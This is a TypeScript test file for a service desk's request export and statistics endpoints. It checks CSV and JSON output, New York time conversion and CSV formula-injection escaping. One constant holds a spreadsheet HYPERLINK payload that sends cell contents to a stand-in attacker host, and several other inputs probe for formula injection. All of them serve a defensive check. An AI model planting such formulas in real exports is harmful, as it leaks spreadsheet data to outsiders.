import { expect, test } from 'vitest';
import { dialects } from '../../tests/support/database/dialects.ts';
import { startDesk } from '../../tests/support/desk/desk.ts';

const formula = '=HYPERLINK("https://evil.example?"&A1,"Click")';

/** Parses CSV as in RFC 4180 with every cell quoted. */
function readCsv(text: string): string[][] {
  expect(text.slice(0, 2)).toBe('\ufeff"');
  expect(text.endsWith('"\r\n')).toBe(true);
  return text
    .slice(2, -3)
    .split('"\r\n"')
    .map((line) => line.split('","').map((cell) => cell.replaceAll('""', '"')));
}

test.for(dialects)(
  'on %s an export contains the requests that match the filters',
  async ([, open]) => {
    const { book, call, clock } = await startDesk({ database: await open() });
    for (let index = 0; index < 230; index += 1) {
      clock.advance(1);
      await book({
        name: `Ann ${index}`,
        notes: 'one, "two"\nthree',
        address: index % 2 ? 'Paris' : 'Hoboken',
      });
    }
    const json = await call('GET', '/api/desk/export?format=json&town=Hoboken');
    const items = json.json();
    expect(items).toHaveLength(115);
    expect(items[0]).toMatchObject({ name: 'Ann 228', town: 'Hoboken', version: 1 });
    const csv = await call('GET', '/api/desk/export?format=csv&q=ann%2022');
    expect(csv.headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'cache-control': 'no-store',
      'content-disposition': expect.stringMatching(
        /^attachment; filename="requests-[\d-]{10}\.csv"$/,
      ),
    });
    const [header = [], ...lines] = readCsv(csv.body);
    expect(lines).toHaveLength(11);
    expect(header).toEqual(
      expect.arrayContaining(['reference', 'name', 'town', 'position', 'version']),
    );
    const first = Object.fromEntries(header.map((name, index) => [name, lines[0]?.[index]]));
    expect(first).toMatchObject({ name: 'Ann 229', notes: 'one, "two"\nthree', seen_at: '' });
    const local = header.filter((name) => name.endsWith('_new_york'));
    expect(local).toEqual([
      'created_at_new_york',
      'seen_at_new_york',
      'accepted_at_new_york',
      'eta_at_new_york',
      'appointment_at_new_york',
      'on_the_way_at_new_york',
      'arrived_at_new_york',
      'done_at_new_york',
      'closed_at_new_york',
      'sms_consent_at_new_york',
    ]);
    const { possible_duplicate_of, ...stored } = items[0];
    // A record has this member only if someone is in danger.
    const names = [...Object.keys(stored), 'danger'].sort();
    expect(header.filter((name) => !local.includes(name)).sort()).toEqual(names);
  },
);

test('each UTC time is followed by the New York time, also when its clocks are set back', async () => {
  const { book, call, database } = await startDesk();
  const { reference } = (await book()).json();
  await call('GET', `/api/desk/requests/${reference}`);
  const times = {
    created_at: '2026-11-01T05:30:00.000Z',
    seen_at: '2026-11-01T06:30:00.999Z',
    accepted_at: '2026-07-01T03:59:59.000Z',
  };
  await database.query.updateTable('submissions').set(times).execute();
  await database.query.updateTable('request_index').set({ created_at: times.created_at }).execute();
  const answer = await call('GET', '/api/desk/export');
  expect([...answer.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const [header = [], line = []] = readCsv(answer.body);
  const at = header.indexOf('created_at');
  expect(header.slice(at, at + 2)).toEqual(['created_at', 'created_at_new_york']);
  const read = Object.fromEntries(header.map((name, index) => [name, line[index]]));
  expect(read).toMatchObject({
    ...times,
    created_at_new_york: '2026-11-01 01:30:00 EDT',
    seen_at_new_york: '2026-11-01 01:30:00 EST',
    accepted_at_new_york: '2026-06-30 23:59:59 EDT',
    closed_at: '',
    closed_at_new_york: '',
  });
});

test.for([formula, '+1-201', '-2+3', '@SUM(A1)', ' =1+1', '\uff1d1+1', "'=1"])(
  '%j cannot run as a formula in a spreadsheet, in any field',
  async (text) => {
    const { book, call } = await startDesk();
    const answer = await book({
      name: text.padEnd(3, ' x'),
      address: text,
      unit_number: text,
      gate_code: text,
      notes: text,
      service: 'Other',
      other_service: text,
      source_url: text,
      traffic_source: { source: text },
    });
    expect(answer.statusCode).toBe(201);
    const [, cells = []] = readCsv((await call('GET', '/api/desk/export')).body);
    expect(cells.some((cell) => cell.includes(text))).toBe(true);
    for (const cell of cells) expect(cell).not.toMatch(/^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/);
  },
);

test('an export without requests is an empty file of its format', async () => {
  const { call } = await startDesk();
  expect((await call('GET', '/api/desk/export?format=json')).json()).toEqual([]);
  expect(readCsv((await call('GET', '/api/desk/export')).body)).toHaveLength(1);
  expect((await call('GET', '/api/desk/export?format=xls')).statusCode).toBe(400);
});

test.for(dialects)(
  'on %s the statistics show what came in and how quickly it was accepted',
  async ([, open]) => {
    const { book, call, clock } = await startDesk({ database: await open() });
    const seconds = [10, 20, 300];
    for (const wait of seconds) {
      const { reference } = (await book({ traffic_source: { source: 'google' } })).json();
      clock.advance(wait * 1000);
      const url = `/api/desk/requests/${reference}`;
      await call('GET', url);
      clock.advance(5000);
      await call('POST', `${url}/status`, { status: 'accepted', version: 1 });
    }
    await book({ type: 'callback' });
    const stats = (await call('GET', '/api/desk/stats')).json();
    expect(stats).toMatchObject({
      services: [
        { service: 'House Lockout', requests: 3, accepted: 3 },
        { service: null, requests: 1, accepted: 0 },
      ],
      towns: [{ town: 'Hoboken', requests: 3, accepted: 3 }, { town: null }],
      sources: [{ source: 'google', requests: 3, accepted: 3 }, { source: null }],
    });
    const { median, p90 } = stats.seconds_to_seen;
    expect([Math.round(median), Math.round(p90)]).toEqual([20, 300]);
    expect(Math.round(stats.seconds_to_accepted.median)).toBe(25);
    const total = stats.days.reduce(
      (sum: number, { requests }: { requests: number }) => sum + requests,
      0,
    );
    expect(total).toBe(4);
    const none = (await call('GET', '/api/desk/stats?from=2020-01-01&to=2020-01-02')).json();
    expect(none).toMatchObject({ days: [], seconds_to_seen: { median: null, p90: null } });
  },
);
